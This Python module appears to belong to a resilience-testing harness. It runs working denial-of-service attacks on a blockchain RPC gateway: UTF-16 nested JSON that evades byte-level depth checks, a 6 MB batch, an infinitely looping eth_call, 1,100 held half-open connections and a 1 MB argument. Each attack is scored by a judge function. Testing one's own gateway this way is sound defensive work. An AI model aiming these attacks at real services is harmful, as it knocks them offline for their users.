"""The attacks on resources: deep nesting, a huge batch, looping eth_call, half-open connections, a 1 MB argument."""

from __future__ import annotations

import asyncio
import contextlib
import json
import resource
import time
from typing import TYPE_CHECKING, Any

from common import ATTACK_HARD_LIMIT_S, REQUEST_TIMEOUT_S, describe_error, excerpt
from procfs import open_fd_count, open_files_limit
from records import Record, slow

if TYPE_CHECKING:
    from probe import Probe


def nested(levels: int) -> str:
    """``levels`` nested arrays behind a string that fools a depth check reading UTF-16 bytes.

    U+2200 is the bytes 00 22 in UTF-16-LE: a scanner of raw bytes sees a quote
    there, thinks the rest is inside a string, and counts no brackets at all.
    """
    return '["\u2200", ' + "[" * levels + "]" * levels + ', "x"]'


# 1. deep-utf16 ------------------------------------------------------------------------------------------


async def attack_deep_utf16(probe: Probe, record: Record) -> None:
    body = nested(80_000).encode("utf-16")
    record.details["body_bytes"] = len(body)
    for label, path in (("rpc", "/contracts/rpc"), ("increment", "/contracts/Counter/increment")):
        probe.refresh_alive()
        if probe.gateway_dead:
            record.statuses.append(f"{label}: not sent (gateway dead)")
            continue
        status, answer, _, seconds, error = await probe.request(
            "POST", probe.gateway + path, data=body, headers=probe.json_headers()
        )
        record.statuses.append(f"{label}: {probe.show(status, error)}")
        record.details[f"{label}_s"] = round(seconds, 2)
        record.details[f"{label}_answer"] = excerpt(answer)
        await asyncio.sleep(0.5)  # a crash shows up in /proc a moment later


def judge_deep(record: Record) -> str:
    if any(" 5" in s[s.find(":") :] for s in record.statuses) or any("no answer" in s for s in record.statuses):
        return "SUCCEEDS"
    if slow(record):
        return "DEGRADED"
    return "blocked"


async def attack_deep_utf16_edge(probe: Probe, record: Record) -> None:
    body = nested(100_000).encode("utf-16")
    record.details["body_bytes"] = len(body)
    status, answer, _, seconds, error = await probe.request(
        "POST", f"{probe.edge}/rpc", data=body, headers=probe.json_headers()
    )
    record.statuses.append(f"edge /rpc: {probe.show(status, error)}")
    record.details["seconds"] = round(seconds, 2)
    record.details["answer"] = excerpt(answer)
    await asyncio.sleep(0.5)


def judge_deep_edge(record: Record) -> str:
    if any(" 5" in s[s.find(":") :] or "no answer" in s for s in record.statuses):
        return "SUCCEEDS"
    if record.edge_stall_ms is not None and record.edge_stall_ms > 1000:
        return "DEGRADED"
    return "blocked"


# 6. huge batch ----------------------------------------------------------------------------------------------


async def attack_huge_batch(probe: Probe, record: Record) -> None:
    count = 3_000_000  # "1," * 3e6 = 6 MB
    body = ("[" + ",".join(["1"] * count) + "]").encode()
    record.details["body_bytes"] = len(body)
    status, answer, size, seconds, error = await probe.request(
        "POST", f"{probe.gateway}/contracts/rpc", data=body, headers=probe.json_headers()
    )
    record.statuses.append(probe.show(status, error))
    record.details["answer_bytes"] = size
    record.details["seconds"] = round(seconds, 2)
    record.details["answer"] = excerpt(answer)
    record.notes.append(f"answer {size:,} bytes in {seconds:.1f} s")


def judge_huge_batch(record: Record) -> str:
    grown = (record.rss_peak_mb or 0) - (record.rss_before_mb or 0)
    if any(s.startswith("2") for s in record.statuses) and record.details.get("answer_bytes", 0) > 1_000_000:
        return "SUCCEEDS"
    if grown > 100 or slow(record) or any(s.startswith("5") or s.startswith("no answer") for s in record.statuses):
        return "DEGRADED"
    return "blocked"


# 7. looping eth_call ---------------------------------------------------------------------------------------

LOOP_CALL = {"jsonrpc": "2.0", "id": 1, "method": "eth_call", "params": [{"data": "0x5b600056"}, "latest"]}


async def attack_loop_call(probe: Probe, record: Record) -> None:
    views: list[tuple[int | None, float]] = []
    stop = asyncio.Event()

    async def poll_views() -> None:
        pending: set[asyncio.Task[Any]] = set()

        async def one() -> None:
            status, _, _, seconds, _ = await probe.request(
                "GET", f"{probe.gateway}/contracts/Counter/get", timeout_s=REQUEST_TIMEOUT_S
            )
            views.append((status, seconds))

        deadline = time.monotonic() + ATTACK_HARD_LIMIT_S
        while not stop.is_set() and time.monotonic() < deadline:
            if len(pending) < 50:
                task = asyncio.create_task(one())
                pending.add(task)
                task.add_done_callback(pending.discard)
            with contextlib.suppress(TimeoutError):
                await asyncio.wait_for(stop.wait(), 0.1)
        if pending:
            await asyncio.wait(pending, timeout=REQUEST_TIMEOUT_S)
        for task in pending:
            task.cancel()

    poller = asyncio.create_task(poll_views())
    try:
        single = json.dumps(LOOP_CALL).encode()
        status, answer, _, seconds, error = await probe.request(
            "POST", f"{probe.gateway}/contracts/rpc", data=single, headers=probe.json_headers(), timeout_s=25
        )
        record.statuses.append(f"single: {probe.show(status, error)} in {seconds:.1f} s")
        record.details["single_s"] = round(seconds, 2)
        record.details["single_answer"] = excerpt(answer)
        batch = json.dumps([{**LOOP_CALL, "id": index} for index in range(1, 5)]).encode()
        status, answer, _, seconds, error = await probe.request(
            "POST", f"{probe.gateway}/contracts/rpc", data=batch, headers=probe.json_headers(), timeout_s=25
        )
        record.statuses.append(f"batch of 4: {probe.show(status, error)} in {seconds:.1f} s")
        record.details["batch_s"] = round(seconds, 2)
        record.details["batch_answer"] = excerpt(answer)
        record.notes.append(f"single answer: {record.details['single_answer'][:110]!r}")
    finally:
        stop.set()
        await asyncio.wait_for(poller, REQUEST_TIMEOUT_S + 5)
    worst = max((seconds for _, seconds in views), default=0.0)
    bad = [status for status, _ in views if status != 200]
    record.details["views"] = len(views)
    record.details["view_max_wait_s"] = round(worst, 2)
    record.details["view_non_200"] = len(bad)
    record.notes.append(
        f"Counter.get polled {len(views)}x meanwhile: max wait {worst:.2f} s, non-200: {len(bad)}"
        + (f" ({', '.join(sorted({str(s) for s in bad}))})" if bad else "")
    )


def judge_loop_call(record: Record) -> str:
    longest = max(record.details.get("single_s", 0), record.details.get("batch_s", 0))
    if longest > 5 or record.details.get("view_max_wait_s", 0) > 2 or record.details.get("view_non_200", 0):
        return "SUCCEEDS"
    if slow(record) or record.details.get("view_max_wait_s", 0) > 0.5:
        return "DEGRADED"
    return "blocked"


# 10. half-open connections -----------------------------------------------------------------------------------


async def attack_half_open(probe: Probe, record: Record) -> None:
    want = 1100
    hold_s = 15.0
    partial = f"GET / HTTP/1.1\r\nHost: {probe.gw_host}\r\n".encode()
    record.details["gateway_nofile"] = open_files_limit(probe.gateway_pid)
    record.details["gateway_fds_before"] = open_fd_count(probe.gateway_pid)
    record.notes.append(f"gateway 'ulimit -n': {record.details['gateway_nofile']}")
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft != resource.RLIM_INFINITY and soft < want + 200:
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, want + 500), hard))
    conns: list[tuple[asyncio.StreamReader, asyncio.StreamWriter]] = []
    failures: dict[str, int] = {}
    gate = asyncio.Semaphore(300)

    async def open_one() -> None:
        async with gate:
            try:
                reader, writer = await asyncio.wait_for(asyncio.open_connection(probe.gw_host, probe.gw_port), 3.0)
                writer.write(partial)
                await asyncio.wait_for(writer.drain(), 1.0)
                conns.append((reader, writer))
            except (TimeoutError, OSError) as exc:
                key = describe_error(exc)[:60]
                failures[key] = failures.get(key, 0) + 1

    started = time.perf_counter()
    try:
        await asyncio.wait_for(asyncio.gather(*(open_one() for _ in range(want))), 6.0)
    except TimeoutError:
        failures["opening cut off at 6 s"] = 1
    opened_in = time.perf_counter() - started
    record.details["opened"] = len(conns)
    record.details["open_s"] = round(opened_in, 2)
    record.details["open_failures"] = failures
    hold_until = started + hold_s
    try:
        await asyncio.sleep(0.3)
        record.details["gateway_fds_held"] = open_fd_count(probe.gateway_pid)
        status, seconds, error = await probe.health_answers(f"{probe.gateway}/health", 10.0)
        record.statuses.append(f"fresh /health: {probe.show(status, error)} in {seconds:.2f} s")
        record.details["fresh_status"] = status
        record.details["fresh_s"] = round(seconds, 2)
        # A second fresh request near the end of the hold: does the gateway stay usable?
        await asyncio.sleep(max(0.0, min(hold_until - time.perf_counter() - 1.5, hold_s)))
        status2, seconds2, error2 = await probe.health_answers(f"{probe.gateway}/health", 1.5)
        record.statuses.append(f"later /health: {probe.show(status2, error2)} in {seconds2:.2f} s")
        record.details["fresh2_status"] = status2
        record.details["fresh2_s"] = round(seconds2, 2)
        # How many held connections did the gateway close or answer?
        closed = answered = still_open = 0
        answers: dict[str, int] = {}
        for reader, _ in conns:
            try:
                data = await asyncio.wait_for(reader.read(256), 0.002)
            except TimeoutError:
                still_open += 1
                continue
            except OSError:
                closed += 1
                continue
            if data:
                answered += 1
                line = data.split(b"\r\n", 1)[0].decode("latin-1")[:40]
                answers[line] = answers.get(line, 0) + 1
            else:
                closed += 1
        record.details["held_end"] = {"still_open": still_open, "closed_by_gateway": closed, "answered": answered}
        record.details["held_answers"] = answers
    finally:
        for _, writer in conns:
            writer.close()
        await asyncio.sleep(0.2)
        for _, writer in conns:
            with contextlib.suppress(TimeoutError, OSError):
                await asyncio.wait_for(writer.wait_closed(), 0.05)
    end = record.details.get("held_end", {})
    record.notes.append(
        f"opened {len(conns)}/{want} in {opened_in:.2f} s"
        + (f" (failures: {failures})" if failures else "")
        + f"; at {hold_s:g} s: {end.get('still_open')} still open, {end.get('closed_by_gateway')} closed by gateway"
        + (f", answered {record.details.get('held_answers')}" if end.get("answered") else "")
        + f"; gateway fds {record.details.get('gateway_fds_before')} -> {record.details.get('gateway_fds_held')}"
    )


def judge_half_open(record: Record) -> str:
    fresh = record.details.get("fresh_status")
    fresh2 = record.details.get("fresh2_status")
    if fresh is None or fresh2 is None:
        return "SUCCEEDS"
    if record.details.get("fresh_s", 0) > 1:
        return "DEGRADED"
    # Polls slowed while the 1,100 connections were being opened meet a full listen backlog (a dropped SYN is
    # retried after 1 s): that is the connection burst, not the held connections. Judge the hold only.
    burst_end = record.details.get("open_s", 0) + 0.5
    held_slow = [lat for at, lat in record.details.get("slow_health_polls", []) if at > burst_end]
    if held_slow or record.stall_open:
        return "DEGRADED"
    if slow(record):
        record.notes.append("the slow /health polls all began during the connection burst (listen backlog)")
    return "blocked"


# 15. 1 MB string argument -------------------------------------------------------------------------------------------


async def attack_big_arg(probe: Probe, record: Record) -> None:
    big = "x" * 1_000_000
    url = f"{probe.gateway}/contracts/execcontract?contractID=Hello&operation=greet&arg={big}"
    status, answer, size, seconds, error = await probe.request("GET", url)
    record.statuses.append(f"GET execcontract: {probe.show(status, error)}")
    record.details["get"] = {"status": status, "bytes": size, "s": round(seconds, 2), "answer": excerpt(answer)}
    body = json.dumps({"args": [big]}).encode()
    status, answer, size, seconds, error = await probe.request(
        "POST", f"{probe.gateway}/contracts/Hello/greet", data=body, headers=probe.json_headers()
    )
    record.statuses.append(f"POST greet: {probe.show(status, error)}")
    record.details["post"] = {"status": status, "bytes": size, "s": round(seconds, 2), "answer": excerpt(answer)}
    record.notes.append(f"POST greet answered {size:,} bytes in {seconds:.2f} s: {excerpt(answer, 100)!r}")


def judge_big_arg(record: Record) -> str:
    if any(": 5" in s or "no answer" in s for s in record.statuses):
        return "SUCCEEDS"
    if any(s.endswith(": 200") for s in record.statuses) or slow(record):
        return "DEGRADED"
    return "blocked"
